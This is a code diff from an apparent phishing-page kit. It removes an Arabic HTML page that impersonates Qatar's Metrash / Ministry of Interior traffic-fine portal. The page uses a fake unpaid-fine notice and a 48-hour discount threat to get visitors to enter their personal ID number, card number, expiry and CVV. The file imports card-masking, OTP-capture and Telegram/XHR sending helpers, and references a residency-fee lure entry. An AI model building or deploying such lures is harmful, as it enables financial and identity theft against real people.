@@ -1,16 +1,6 @@
 import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, pct } from '../parts/yl-kit.js';
 
-const metrashInner = `<div style="font-family:Tahoma,Arial,sans-serif;direction:rtl;background:#f5f1ea;min-height:100vh">
-<div style="background:#8a1538;color:#fff;padding:14px 20px;font-size:19px;font-weight:bold">مطراش – وزارة الداخلية <span style="font-size:12px;font-weight:normal;opacity:.85">دولة قطر</span></div>
-<div style="max-width:420px;margin:24px auto;background:#fff;border-radius:10px;padding:22px;box-shadow:0 2px 12px rgba(0,0,0,.08)">
-<h3 style="margin-top:0;color:#8a1538">استعلام ودفع المخالفات المرورية</h3>
-<p style="font-size:13px;color:#555;line-height:1.7">لديك مخالفة مرورية غير مسددة بقيمة <b>500 ر.ق</b>. استفد من خصم 50% عند السداد خلال 48 ساعة، وإلا سيتم حظر خدمات المركبة.</p>
-<form id="mf"><input name="qid" placeholder="الرقم الشخصي (QID)" maxlength="11" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box">
-<input name="cn" placeholder="رقم البطاقة" inputmode="numeric" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box;direction:ltr">
-<div style="display:flex;gap:8px"><input name="ex" placeholder="MM/YY" style="flex:1;height:42px;padding:0 10px"><input name="cv" placeholder="CVV" style="flex:1;height:42px;padding:0 10px"></div>
-<button style="margin-top:12px;width:100%;height:44px;background:#8a1538;color:#fff;border:0;border-radius:6px;font-size:16px">ادفع 250 ر.ق</button></form></div></div>`;
-
 export const entries: Entry[] = [
 {
   id: 'yl-icp-residency-renewal-fee',
